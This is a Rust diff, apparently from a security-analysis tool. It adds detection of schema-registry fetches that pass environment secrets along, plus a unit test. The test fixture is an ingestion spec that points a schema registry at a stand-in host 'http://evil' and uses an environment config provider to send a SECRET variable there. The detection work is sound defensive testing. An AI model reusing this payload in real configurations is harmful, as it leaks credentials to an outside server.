@@ -1,6 +1,6 @@
 //! Schemas that an input format or a parser fetches from where it is told: by the extensions for Avro, Protobuf, Thrift.
 
-use super::input_source::Unreadable;
+use super::input_source::{self, Unreadable};
 use super::json::Json;
 use super::work::Work;
 use crate::location::{Reach, Source};
@@ -27,7 +27,7 @@ pub(super) fn read(json: Json<'_>, work: &mut Work) -> Result<(), Unreadable> {
             source_type: SCHEMA.to_owned(),
             reach: Reach::Unknown,
             connection: true,
-            environment: false,
+            environment: input_source::hands_over_a_secret(json.text()),
         });
     }
     Ok(())
@@ -56,6 +56,29 @@ mod tests {
         ] {
             assert!(fetches(text), "{text}");
         }
+    }
+
+    /// Jackson keeps a parser as a map: nobody sees the provider being built.
+    #[test]
+    fn a_secret_that_a_map_hands_over_counts() {
+        let hands_over = |provider: &str| {
+            let text = format!(
+                r#"{{"dataSchema": {{"parser": {{"avroBytesDecoder": {{"type": "schema_registry", "url": "http://evil",
+                    "headers": {{"druid.dynamic.config.provider": {provider}}}}}}}}}}}"#
+            );
+            let mut work = Work::default();
+            read(Json::document(&text).unwrap(), &mut work).unwrap();
+            work.sources.iter().any(|source| source.environment)
+        };
+        assert!(hands_over(
+            r#"{"type": "environment", "variables": {"a": "SECRET"}}"#
+        ));
+        assert!(hands_over(
+            r#"["environment", {"variables": {"a": "SECRET"}}]"#
+        ));
+        assert!(!hands_over(
+            r#"{"type": "mapString", "config": {"a": "b"}}"#
+        ));
     }
 
     #[test]
